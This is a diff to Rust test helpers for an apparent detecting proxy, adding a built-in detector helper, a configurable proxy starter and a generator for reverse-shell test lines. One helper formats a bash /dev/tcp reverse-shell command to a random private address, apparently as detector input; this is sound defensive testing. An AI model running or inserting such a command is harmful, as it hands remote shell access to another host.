@@ -79,6 +79,24 @@ pub fn detector() -> Arc<Detector> {
     )
 }
 
+/// A detector over the built-in rule registry.
+pub fn builtin_detector() -> Arc<Detector> {
+    Arc::new(Detector::builtin(DetectorOptions::default()).expect("built-in rules compile"))
+}
+
+/// A reverse-shell line with a random private address and port.
+pub fn reverse_shell_line() -> String {
+    let mut r = [0u8; 5];
+    getrandom::fill(&mut r).unwrap();
+    let port = 1024 + (u16::from_be_bytes([r[3], r[4]]) % 60000);
+    format!(
+        "bash -i >& /dev/tcp/10.{}.{}.{}/{port} 0>&1",
+        r[0],
+        r[1],
+        r[2].max(1)
+    )
+}
+
 /// A fake AWS access key id, random per call, in the real format.
 pub fn fake_aws_key() -> String {
     const ALPHA: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
@@ -131,8 +149,16 @@ pub fn test_settings() -> ProxySettings {
 
 /// A started engine with the test detector and a collecting sink.
 pub async fn start_proxy(settings: ProxySettings) -> (Arc<ProxyEngine>, Arc<TestSink>, SocketAddr) {
+    start_proxy_with(settings, detector()).await
+}
+
+/// A started engine with the given detector and a collecting sink.
+pub async fn start_proxy_with(
+    settings: ProxySettings,
+    detector: Arc<Detector>,
+) -> (Arc<ProxyEngine>, Arc<TestSink>, SocketAddr) {
     let sink = Arc::new(TestSink::default());
-    let engine = Arc::new(ProxyEngine::new(settings, Some(detector()), sink.clone()));
+    let engine = Arc::new(ProxyEngine::new(settings, Some(detector), sink.clone()));
     let info = engine.start().await.expect("proxy starts");
     let addr: SocketAddr = format!("{}:{}", info.address, info.port).parse().unwrap();
     (engine, sink, addr)
